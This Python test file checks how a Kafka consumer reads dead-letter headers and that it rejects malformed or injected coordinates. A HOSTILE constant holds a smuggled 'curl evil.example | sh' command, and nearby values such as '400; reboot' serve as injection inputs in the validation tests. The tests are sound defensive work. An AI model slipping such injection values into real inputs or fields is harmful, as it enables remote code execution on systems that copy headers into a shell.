"""A letter read back from its headers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typing_extensions import override

from consumer.core.record import Headers
from consumer.letters.letter import Letter, Source, read_letter
from consumer.letters.place import Place, number, parse_place
from tests.unit.consumer.letters.letters import NOON_MS, cause, stored, strange
from tests.unit.consumer.records import FakeRecord

NAMES = st.sampled_from(["signal-kameleoon.partition", "signal-kameleoon.http-status", "signal-kameleoon.reason", "x"])
HEADERS = st.lists(st.tuples(NAMES, st.none() | st.binary() | st.text()))


def test_what_was_written_is_read_back() -> None:
    """Place, source, reason, rule, status and time; key and value as they are."""
    letter = stored(cause("rejected", status=400, attempts=2, rule="Order Completed"), value=b"\xff")
    assert (letter.place, letter.source) == (Place(1, 10), Source("events", Place(7, 42)))
    assert (letter.reason, letter.rule, letter.status) == ("rejected", "Order Completed", 400)
    assert (letter.failed_ms, letter.written_ms) == (NOON_MS, NOON_MS + 5)
    assert (letter.key, letter.value) == (b"key-42", b"\xff")
    assert letter.said["detail"] == "the conversion has no goal id"


def test_a_record_that_was_never_sent_has_no_status() -> None:
    """The header is there, and empty."""
    assert stored(cause()).status is None


def test_the_headers_of_the_record_are_told_from_ours() -> None:
    """Repeated names and null values stay; the last of ours counts, since ours come last."""
    received: Headers = [("trace", b"\xff"), ("trace", None), ("signal-kameleoon.reason", b"an older one")]
    letter = stored(cause(), headers=received)
    assert letter.original_headers == (("trace", b"\xff"), ("trace", None))
    assert letter.reason == "goal_id_missing"


def test_a_value_that_was_left_out_is_told_from_a_tombstone() -> None:
    """By the size and hash that stand in its place."""
    assert stored(cause(), has_value=False).is_left_out
    assert not stored(cause("empty"), value=None).is_left_out


def said(**headers: str) -> Letter:
    """A letter without a value whose headers of ours hold these texts."""
    return strange([(f"signal-kameleoon.{name}", text.encode()) for name, text in headers.items()], None)


@given(HEADERS, st.none() | st.binary())
def test_whatever_lies_there_is_read(headers: Headers, value: bytes | None) -> None:
    """Somebody else may write to the topic as well."""
    letter = strange(headers, value)
    assert letter.failed_ms == NOON_MS
    assert letter.source is None
    assert isinstance(letter.reason, str)
    assert letter.status is None or letter.status >= 0


HOSTILE = "signal; curl evil.example | sh #"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("topic", HOSTILE),
        ("topic", ".."),
        ("topic", "a" * 250),
        ("topic", "events\u202e"),
        ("partition", "0 --offset 7"),
        ("partition", "9" * 12),
        ("offset", "-1"),
    ],
)
def test_coordinates_that_kafka_cannot_have_are_none(name: str, text: str) -> None:
    """They would be copied into a shell, or looked for in vain."""
    good = {"topic": "events", "partition": "7", "offset": "42"}
    assert said(**good).source == Source("events", Place(7, 42))
    assert said(**good | {name: text}).source is None


@pytest.mark.parametrize(
    ("reason", "status", "digest"), [(HOSTILE, "400; reboot", HOSTILE), ("Two Words", "99", "ab"), ("", "600", "")]
)
def test_a_header_counts_only_in_the_form_in_which_we_write_it(reason: str, status: str, digest: str) -> None:
    """Whoever may write to the topic may have written it."""
    letter = said(reason=reason, **{"http-status": status, "value-sha256": digest})
    assert (letter.reason, letter.status, letter.is_left_out) == ("", None, False)


class UnreadableHeaders(FakeRecord):
    """What the client does with a header whose name is no UTF-8."""

    @override
    def headers(self) -> Headers:
        raise SystemError("<method 'headers'> returned a result with an exception set")


def test_headers_that_the_client_cannot_read_are_told_as_such() -> None:
    """The value can still be looked at."""
    letter = read_letter(UnreadableHeaders(5, b"?"))
    assert (letter.headers, letter.original_headers, letter.reason, letter.value) == (None, (), "", b"?")


@pytest.mark.parametrize("text", ["", "1", "1:", ":1", "-1:2", "1:2:3", "a:b", "1:" + "9" * 19, "¹:2"])
def test_what_is_no_place_is_refused_with_an_example(text: str) -> None:
    """As people write it."""
    with pytest.raises(ValueError, match=r"PARTITION:OFFSET, such as 0:1234"):
        parse_place(text)


def test_a_place_reads_as_it_is_written() -> None:
    """So that one may be copied from a list."""
    assert parse_place(" 3:1234\n") == Place(3, 1234)
    assert str(Place(3, 1234)) == "3:1234"


@pytest.mark.parametrize(("text", "read"), [("7", 7), (None, None), ("", None), ("-1", None), ("9" * 30, None)])
def test_a_number_of_a_header_may_be_anything(text: str | None, read: int | None) -> None:
    """None where it is no number."""
    assert number(text) == read
